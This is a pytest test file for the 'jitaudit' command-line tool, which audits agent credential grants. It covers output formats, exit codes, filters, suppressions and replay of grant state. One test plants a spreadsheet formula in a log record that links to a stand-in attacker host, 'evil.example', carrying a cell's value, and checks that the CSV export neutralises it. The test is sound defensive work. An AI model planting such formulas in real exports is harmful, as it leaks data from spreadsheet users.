"""``jitaudit scan`` and ``jitaudit replay`` on a lake of the committed sample data: formats,
exit codes, filters, status across scans, suppressions, CSV injection, grant state at an instant.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest

from jitaudit import suppressions
from jitaudit.cli import build_parser, main
from jitaudit.ingest import ingest
from jitaudit.lake import Lake
from tests.conftest import ROOT, rows
from tests.test_output import CONTRACT_FIELDS, validate_ocsf

SAMPLE = ROOT / "sample_data"
#: ground truth of the sample data (sample_data/README.md, expected_findings.csv)
C04_TOKEN = "ghmn3714klv6mAc6OcU1Zu8h"  # JIT-004: 1 h child token issued 2026-11-02T14:00:02Z


@pytest.fixture(scope="session")
def sample_lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample data's log directories, ingested once per session (never scanned)."""
    root = tmp_path_factory.mktemp("sample") / "lake"
    ingest([p for p in sorted(SAMPLE.iterdir()) if p.is_dir()], Lake(root))
    return root


@pytest.fixture(scope="session")
def first_scan(sample_lake: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A full scan of every detection: its JSON output and the lake it left its state in."""
    work = tmp_path_factory.mktemp("scanned")
    lake = work / "lake"
    shutil.copytree(sample_lake, lake)
    with contextlib.chdir(work):  # no ./jitaudit.toml or ./suppressions.yaml here
        code = main(["scan", "--lake", str(lake), "--format", "json", "--output", "out.json"])
    assert code == 0
    return {"lake": lake, "json": json.loads((work / "out.json").read_text())}


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def scanned(first_scan: dict[str, Any], here: Path) -> Path:
    """A private copy of the lake after the first scan (a rescan finds nothing new)."""
    shutil.copytree(first_scan["lake"], here / "lake")
    return here / "lake"


@pytest.fixture
def fresh(sample_lake: Path, here: Path) -> Path:
    """A private copy of the never-scanned lake."""
    shutil.copytree(sample_lake, here / "lake")
    return here / "lake"


def scan(capsys: pytest.CaptureFixture[str], lake: Path, *args: str) -> tuple[int, str, list[str]]:
    """Run ``jitaudit scan``; its exit code, stdout and stderr lines."""
    capsys.readouterr()
    code = main(["scan", "--lake", str(lake), *args])
    out, err = capsys.readouterr()
    return code, out, err.splitlines()


def by_detection(doc: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for f in doc["findings"]:
        out.setdefault(f["detection_id"], []).append(f)
    return out


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


# ----------------------------------------------------------------------------- formats


def test_first_scan_is_full_and_finds_every_injected_case(first_scan: dict[str, Any]) -> None:
    doc = first_scan["json"]
    assert doc["mode"] == "full"
    assert {f["status"] for f in doc["findings"]} == {"new"}
    found = {(f["detection_id"], f["credential_id"]) for f in doc["findings"]}
    with (SAMPLE / "expected_findings.csv").open() as fh:
        expected = [r for r in csv.DictReader(fh) if r["credential_id"]]
    assert {(r["detection_id"], r["credential_id"]) for r in expected} <= found
    assert {c["detection_id"] for c in doc["coverage"]} == set(doc["detections"])


@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv", "ocsf"])
def test_every_format_renders_and_parses(
    fmt: str, scanned: Path, first_scan: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    out_file = scanned.parent / f"findings.{fmt}"
    code, out, _ = scan(capsys, scanned, "--format", fmt, "--output", str(out_file))
    assert code == 0 and out == ""
    text = out_file.read_text()
    ids = {f["finding_id"] for f in first_scan["json"]["findings"]}
    if fmt == "json":
        doc = json.loads(text)
        assert {f["finding_id"] for f in doc["findings"]} == ids
        assert doc["coverage"] and "expired_suppressions" in doc
    elif fmt == "jsonl":
        records = [json.loads(line) for line in text.splitlines()]
        assert {r["finding_id"] for r in records} == ids
        for r in records:
            assert set(r) >= CONTRACT_FIELDS
            assert "" not in set(_strings(r)), r["finding_id"]
            assert r["evidence"] and {"table", "event_id", "source"} <= set(r["evidence"][0])
    elif fmt == "csv":
        table = list(csv.DictReader(io.StringIO(text)))
        assert {r["finding_id"] for r in table} == ids
        assert all(int(r["evidence_count"]) >= 1 for r in table)
    elif fmt == "ocsf":
        events = json.loads(text)
        validate_ocsf(events)
        assert {e["finding_info"]["uid"] for e in events} == ids
    else:
        assert "coverage" in text and "JIT-016" in text and C04_TOKEN in text


def test_output_goes_to_stdout_without_output_option(
    scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = scan(capsys, scanned, "--format", "jsonl", "--quiet")
    assert code == 0
    assert all(json.loads(line)["finding_id"] for line in out.splitlines())


# --------------------------------------------------------------------------- exit codes


def test_fail_on_exits_1_when_findings_at_or_above(
    scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = scan(capsys, scanned, "--fail-on", "high", "--format", "json")
    assert code == 1
    doc = json.loads(out)  # the findings are still written
    assert any(f["severity"] in ("high", "critical") for f in doc["findings"])
    assert any("at or above high" in line for line in err)
    assert scan(capsys, scanned, "--fail-on", "critical")[0] == 1


def test_fail_on_above_every_finding_exits_0(
    scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """JIT-004 and JIT-007 are medium: failing on high passes, failing on medium does not."""
    only_medium = ("--detections", "JIT-004,JIT-007", "--format", "json")
    code, out, _ = scan(capsys, scanned, *only_medium, "--fail-on", "high")
    assert code == 0
    assert {f["severity"] for f in json.loads(out)["findings"]} == {"medium"}
    assert scan(capsys, scanned, *only_medium, "--fail-on", "medium")[0] == 1
    assert scan(capsys, scanned, *only_medium)[0] == 0  # no --fail-on: never 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--detections", "JIT-001,JIT-999"], "JIT-999"),
        (["--since", "last tuesday"], "--since"),
        (["--suppressions", "missing.yaml"], "missing.yaml"),
        (["--suppressions", "bad.yaml"], "suppression #1"),
        (["--config", "bad.toml"], "bad.toml"),
        (["--config", "unknown.toml"], "unknown parameters"),
        (["--output", "nodir/findings.json"], "nodir"),
    ],
)
def test_input_errors_exit_2_with_one_line(
    args: list[str], message: str, scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (scanned.parent / "bad.yaml").write_text("suppressions:\n  - detection: JIT-001\n")
    (scanned.parent / "bad.toml").write_text("[detections.JIT-007\n")
    (scanned.parent / "unknown.toml").write_text("[detections.JIT-007]\nmax_ttl = 5\n")
    code, out, err = scan(capsys, scanned, *args)
    assert code == 2 and out == ""
    assert len(err) == 1 and err[0].startswith("jitaudit scan: error:") and message in err[0]


def test_missing_lake_is_exit_2(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = scan(capsys, here / "nowhere")
    assert code == 2 and len(err) == 1 and "no lake at" in err[0]
    (here / "not-a-lake").mkdir()
    code, _, err = scan(capsys, here / "not-a-lake")
    assert code == 2 and len(err) == 1 and "not a jitaudit lake" in err[0]


# ------------------------------------------------------------------------------ filters


def test_detections_option_runs_only_those(
    scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = scan(capsys, scanned, "--detections", "JIT-001,jit-004", "--format", "json")
    doc = json.loads(out)
    assert code == 0 and doc["detections"] == ["JIT-001", "JIT-004"]
    assert {f["detection_id"] for f in doc["findings"]} == {"JIT-001", "JIT-004"}
    assert {c["detection_id"] for c in doc["coverage"]} == {"JIT-001", "JIT-004"}


def test_since_keeps_findings_seen_at_or_after(
    scanned: Path, first_scan: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    since = "2026-11-03T06:00:00Z"
    code, out, _ = scan(capsys, scanned, "--since", since, "--format", "json")
    kept = json.loads(out)["findings"]
    assert code == 0
    cut = datetime(2026, 11, 3, 6, 0)
    assert kept and all(datetime.fromisoformat(f["last_seen"]) >= cut for f in kept)
    dropped = {f["finding_id"] for f in first_scan["json"]["findings"]} - {
        f["finding_id"] for f in kept
    }
    assert dropped
    for f in first_scan["json"]["findings"]:
        if f["finding_id"] in dropped:
            assert datetime.fromisoformat(f["last_seen"]) < cut
    # an offset is converted to UTC: 08:00+02:00 is the same instant
    _, out2, _ = scan(capsys, scanned, "--since", "2026-11-03T08:00:00+02:00", "--format", "json")
    assert {f["finding_id"] for f in json.loads(out2)["findings"]} == {
        f["finding_id"] for f in kept
    }


# ----------------------------------------------------------------- status across scans


def test_second_scan_reports_open_and_mode_unchanged(
    scanned: Path, first_scan: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = scan(capsys, scanned, "--format", "json")
    doc = json.loads(out)
    assert code == 0 and doc["mode"] == "unchanged"
    assert {f["status"] for f in doc["findings"]} == {"open"}
    assert {f["finding_id"] for f in doc["findings"]} == {
        f["finding_id"] for f in first_scan["json"]["findings"]
    }


@pytest.mark.slow
def test_full_option_rescans_everything(scanned: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = scan(capsys, scanned, "--format", "json", "--full")
    doc = json.loads(out)
    assert code == 0 and doc["mode"] == "full"
    assert {f["status"] for f in doc["findings"]} == {"new"}  # --full forgets the last scan


# ------------------------------------------------------------------------ suppressions

SUPPRESSIONS = """\
suppressions:
  - detection: JIT-001
    match: {agent_id: worker-billing-c01}
    owner: alice@example.com
    reason: hr-admin read approved in SEC-42
    expires: 2099-12-31
  - detection: JIT-004
    match: {credential_id: ghmn3714klv6mAc6OcU1Zu8h}
    owner: bob@example.com
    reason: accepted until the broker revokes on task end
    expires: 2026-01-31
"""


def test_suppression_marks_findings_and_expired_one_is_reported(
    scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (scanned.parent / "accepted.yaml").write_text(SUPPRESSIONS)
    args = ("--detections", "JIT-001,JIT-004", "--format", "json", "--fail-on", "high")
    code, out, err = scan(capsys, scanned, *args, "--suppressions", "accepted.yaml")
    doc = json.loads(out)
    found = by_detection(doc)
    assert [f["status"] for f in found["JIT-001"]] == ["suppressed"]
    assert found["JIT-001"][0]["suppression"]["owner"] == "alice@example.com"
    assert code == 0  # the only high finding is accepted
    # the expired entry no longer suppresses, and says so on stderr and in the json
    assert [f["status"] for f in found["JIT-004"]] == ["new"]
    expired = [line for line in err if "expired suppression" in line]
    assert len(expired) == 1 and "JIT-004" in expired[0] and "bob@example.com" in expired[0]
    assert [s["owner"] for s in doc["expired_suppressions"]] == ["bob@example.com"]


def test_suppressions_yaml_in_the_working_directory_is_the_default(
    scanned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = scan(capsys, scanned, "--detections", "JIT-001", "--fail-on", "high")
    assert code == 1
    (scanned.parent / "suppressions.yaml").write_text(SUPPRESSIONS)
    code, out, _ = scan(
        capsys, scanned, "--detections", "JIT-001", "--fail-on", "high", "--format", "csv"
    )
    assert code == 0
    assert [r["status"] for r in csv.DictReader(io.StringIO(out))] == ["suppressed"]


# ---------------------------------------------------------------------- hostile strings

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def test_csv_defuses_formulas_planted_in_logs(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A grant whose credential and agent names are spreadsheet formulas (from a hostile log)."""
    lake = Lake(here / "lake")
    grant = rows(
        "grants",
        {
            "event_id": "g-1",
            "event_time": datetime(2026, 11, 2, 9, 0),
            "source": "vault",
            "grant_id": HYPERLINK,
            "credential_id": HYPERLINK,
            "agent_id": "@SUM(A1:A9)",
            "auth_method": "approle",
            "attested": False,
            "issued_at": datetime(2026, 11, 2, 9, 0),
            "expires_at": datetime(2026, 11, 2, 9, 30),
        },
    )
    with duckdb.connect() as con:
        lake.commit(con, {"grants": grant}, [])
    code, out, _ = scan(capsys, lake.root, "--detections", "JIT-015", "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["summary"].startswith("'" + HYPERLINK)  # the summary starts with the credential
    assert row["credential_id"] == "'" + HYPERLINK
    assert row["agent_id"] == "'@SUM(A1:A9)"


# ------------------------------------------------------------------------------ replay


def replay(capsys: pytest.CaptureFixture[str], lake: Path, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["replay", "--lake", str(lake), *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_replay_lists_a_grant_valid_at_an_instant_with_its_ttl(
    sample_lake: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """worker-billing-c04's 1 h child token, issued 14:00:02Z, has 30 min 2 s left at 14:30Z."""
    code, out, _ = replay(capsys, sample_lake, "--at", "2026-11-02T14:30:00Z")
    assert code == 0
    row = next(line for line in out.splitlines() if line.startswith(C04_TOKEN)).split()
    assert row[1:4] == ["vault", "worker-billing-c04", "task-10c0a1049c5b"]
    assert "30m" in row and "02s" in row
    code, out, _ = replay(capsys, sample_lake, "--at", "2026-11-02T14:30:00Z", "--format", "json")
    doc = json.loads(out)
    [grant] = [g for g in doc["grants"] if g["credential_id"] == C04_TOKEN]
    assert grant["remaining_seconds"] == 1802 and grant["task_id"] == "task-10c0a1049c5b"
    assert doc["at"] == "2026-11-02T14:30:00"
    # one second after its expiry it is no longer listed
    _, out, _ = replay(capsys, sample_lake, "--at", "2026-11-02T15:00:03Z", "--format", "json")
    assert C04_TOKEN not in {g["credential_id"] for g in json.loads(out)["grants"]}


def test_replay_input_errors_exit_2_with_one_line(
    sample_lake: Path, here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = replay(capsys, sample_lake, "--at", "noon")
    assert code == 2 and len(err.splitlines()) == 1 and "--at 'noon'" in err
    code, _, err = replay(capsys, here / "nowhere", "--at", "2026-11-02T14:30:00Z")
    assert code == 2 and len(err.splitlines()) == 1 and "no lake at" in err


# ------------------------------------------------------------------------------ README


@pytest.mark.parametrize("command", ["scan", "replay"])
def test_readme_documents_every_option(command: str) -> None:
    readme = (ROOT / "README.md").read_text()
    section = readme.split("## Command line", 1)[1].split("\n## ", 1)[0]
    [sub] = [a for a in build_parser()._actions if isinstance(a, argparse._SubParsersAction)]
    options = [o for a in sub.choices[command]._actions for o in a.option_strings]
    for option in options:
        if option.startswith("--") and option != "--help":
            assert option in section, option


def test_readme_suppressions_example_is_a_valid_file(tmp_path: Path) -> None:
    readme = (ROOT / "README.md").read_text()
    section = readme.split("## Scheduled scans", 1)[1]
    example = re.search(r"```yaml\n(suppressions:.*?)```", section, re.S)
    assert example is not None
    (tmp_path / "s.yaml").write_text(example.group(1))
    [entry] = suppressions.load(tmp_path / "s.yaml")
    assert entry.detection == "JIT-009" and entry.owner == "alice@example.com"
